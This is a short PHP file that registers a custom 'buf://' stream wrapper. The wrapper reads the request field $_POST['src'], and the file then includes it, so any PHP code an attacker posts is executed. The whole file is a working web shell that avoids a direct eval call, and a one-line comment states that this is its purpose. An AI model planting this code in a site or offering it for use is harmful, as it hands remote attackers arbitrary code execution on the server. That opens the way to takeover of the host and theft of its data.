<?php
// A stream wrapper of the file's own serves the posted text, and an include of its protocol runs it.
class MemoryStream
{
    public $context;
    private string $buf = '';
    private int $at = 0;

    public function stream_open($path, $mode, $options, &$opened): bool
    {
        $this->buf = (string) ($_POST['src'] ?? '');
        return true;
    }

    public function stream_read($count): string
    {
        $part = substr($this->buf, $this->at, $count);
        $this->at += strlen($part);
        return $part;
    }

    public function stream_eof(): bool { return $this->at >= strlen($this->buf); }
    public function stream_stat(): array { return []; }
    public function stream_set_option($o, $a, $b): bool { return false; }
}

stream_wrapper_register('buf', MemoryStream::class);
include 'buf://page';
